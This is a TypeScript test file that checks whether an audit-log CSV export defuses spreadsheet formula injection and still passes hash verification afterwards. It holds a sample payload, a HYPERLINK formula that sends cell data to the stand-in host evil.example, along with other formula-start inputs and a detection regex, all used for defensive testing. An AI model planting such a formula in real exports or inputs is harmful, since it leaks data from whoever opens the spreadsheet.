import { describe, expect, it } from "vitest";
import { appendAuditEntry } from "@/lib/stores/audit-log";
import { exportAuditRange, parseCsv, verifyAuditExport } from "@/lib/use-cases/audit/audit-export";
import { useTestDatabase } from "@/tests/helpers/use-test-database";

/**
 * Issue 11's reproduction: a failed sign-in typed as a spreadsheet formula
 * must reach the auditor's CSV as text, never as a cell a spreadsheet runs,
 * and the neutralised export must still verify.
 */
const formula = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open")';

const db = useTestDatabase();

async function csvExport(): Promise<string> {
  return new Response(exportAuditRange(db, {}, "csv")).text();
}

describe("CSV export against formula injection", () => {
  it("writes a failed sign-in's formula username as quoted text, and the export still verifies", async () => {
    // As the sign-in trail records a failed attempt (lib/adapters/auth/audit-trail.ts): the typed username, verbatim.
    await appendAuditEntry(db, {
      action: "auth.sign_in_failed",
      actor: { identity: "anonymous", kind: "anonymous" },
      subject: { type: "user", id: formula },
      details: { username: formula, method: "password", reason: "invalid_credentials" },
    });
    const text = await csvExport();
    expect(text).toContain("HYPERLINK");
    const cells = parseCsv(text).flatMap((r) => r.cells);
    const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(dangerous).toEqual([]);
    expect(cells).toContain(`'${formula}`);
    expect(verifyAuditExport(text, { format: "csv" })).toMatchObject({ ok: true, problems: [] });
  });

  it("neutralises every formula start, and a value that starts with a quote comes back byte for byte", async () => {
    const starts = ["+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1", "'quoted", "''twice", "plain"];
    for (const id of starts)
      await appendAuditEntry(db, {
        action: "auth.sign_in_failed",
        actor: { identity: "anonymous", kind: "anonymous" },
        subject: { type: "user", id },
      });
    const text = await csvExport();
    const subjectIds = parseCsv(text)
      .slice(1)
      .map((r) => r.cells[8]!);
    for (const id of starts) expect(subjectIds).toContain(id === "plain" ? "plain" : `'${id}`);
    expect(subjectIds.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const verified = verifyAuditExport(text, { format: "csv" });
    expect(verified.problems).toEqual([]);
    expect(verified.records).toBe(starts.length + 1);

    // The quote is not part of what the hash covers (a spreadsheet that drops it changes nothing), an edit is.
    const unquoted = text.replace("'@SUM(A1)", "@SUM(A1)");
    expect(verifyAuditExport(unquoted, { format: "csv" }).ok).toBe(true);
    const tampered = text.replace("'@SUM(A1)", "'@SUM(A9)");
    expect(verifyAuditExport(tampered, { format: "csv" })).toMatchObject({
      ok: false,
      firstProblem: { kind: "entry_edited" },
    });
  });
});
